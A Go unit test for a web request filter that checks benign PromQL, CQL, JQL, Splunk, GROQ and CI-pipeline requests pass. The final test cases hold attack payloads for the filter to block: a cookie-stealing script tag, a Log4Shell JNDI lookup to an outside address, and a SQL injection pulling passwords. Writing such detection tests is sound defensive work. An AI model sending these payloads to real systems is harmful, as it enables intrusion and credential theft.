package filter

import (
	"net/url"
	"testing"
)

// TestQueryLanguages: PromQL, CQL, JQL, SPL and CI pipelines pass; their
// SQL and command shapes are one weak signal, and the other classes keep
// their scores in them.
func TestQueryLanguages(t *testing.T) {
	eng := mustEngine(t, Config{})
	ci := "stages: [test, deploy]\nvariables:\n  NODE_ENV: test\ntest:\n  image: node:20-alpine\n  script:\n    - npm ci\n    - npx eslint 'src/**/*.ts' && npm test | tee report.txt\n    - curl -sf http://localhost:3000/health || exit 1\n"
	tests := []struct {
		name, method, target, ctype, body string
		block                             bool
	}{
		{"PromQL with a label matcher", "POST", "/api/v1/query_range", "application/x-www-form-urlencoded", "query=" + url.QueryEscape(`predict_linear(node_filesystem_avail_bytes{mountpoint="/var/lib/postgresql"}[6h], 24 * 3600) < 0`) + "&step=15", false},
		{"PromQL alert expression", "POST", "/api/ds/query", "application/json", `{"queries":[{"expr":"absent(up{job=\"search-indexer\"} == 1) or (time() - search_indexer_last_success_timestamp_seconds > 900)"}]}`, false},
		{"CQL search", "GET", "/wiki/rest/api/search?cql=" + url.QueryEscape(`title ~ "runbook" AND space = OPS ORDER BY lastmodified DESC`), "", "", false},
		{"JQL search", "GET", "/rest/api/2/search?jql=" + url.QueryEscape(`project = WEB AND status in ("In Progress", Done) ORDER BY created DESC`), "", "", false},
		{"Splunk search", "POST", "/splunk/search/jobs", "application/x-www-form-urlencoded", "search=" + url.QueryEscape(`search index=web sourcetype=nginx status>=500 | stats count by uri_path, status | sort - count | head 20`), false},
		{"GitLab CI file", "POST", "/ci/api/v4/projects/42/ci/lint", "application/json", jsonOf(map[string]string{"content": ci}), false},
		{"CI file as text", "POST", "/ci/validate", "text/plain", ci, false},
		{"GROQ query", "GET", "/v2021-10-21/data/query/production?query=" + url.QueryEscape(`*[_type == "product" && count((tags[]->slug.current)[@ in ["vintage", "band-tee"]]) > 0]{_id, title, "slug": slug.current}`), "", "", false},
		{"GROQ query on a field", "GET", "/v1/data/query/production?query=" + url.QueryEscape(`*[slug.current == "summer-sale" || title match "sale*"] | order(_createdAt desc)[0...10]`), "", "", false},
		// The other classes keep their scores in such values.
		{"script in a GROQ query", "GET", "/v1/data/query/production?query=" + url.QueryEscape(`*[_type == "post"]{title, "x": "<script>alert(document.cookie)</script>"}`), "", "", true},
		{"script in a CQL search", "GET", "/wiki/rest/api/search?cql=" + url.QueryEscape(`title ~ "<script>alert(document.cookie)</script>"`), "", "", true},
		{"JNDI in a pipeline", "POST", "/ci/validate", "text/plain", ci + "    - echo ${jndi:ldap://198.51.100.23/a}\n", true},
		{"SQL injection outside a query language", "GET", "/search?q=" + url.QueryEscape(`x' UNION SELECT password FROM users--`), "", "", true},
	}
	for _, tc := range tests {
		d, err := eng.Inspect(newReq(tc.method, "http://app.example.com"+tc.target, tc.ctype, tc.body))
		if err != nil {
			t.Fatal(err)
		}
		if d.Blocked != tc.block {
			t.Errorf("%s: blocked %v %v, want %v", tc.name, d.Blocked, d.Matches, tc.block)
		}
	}
}
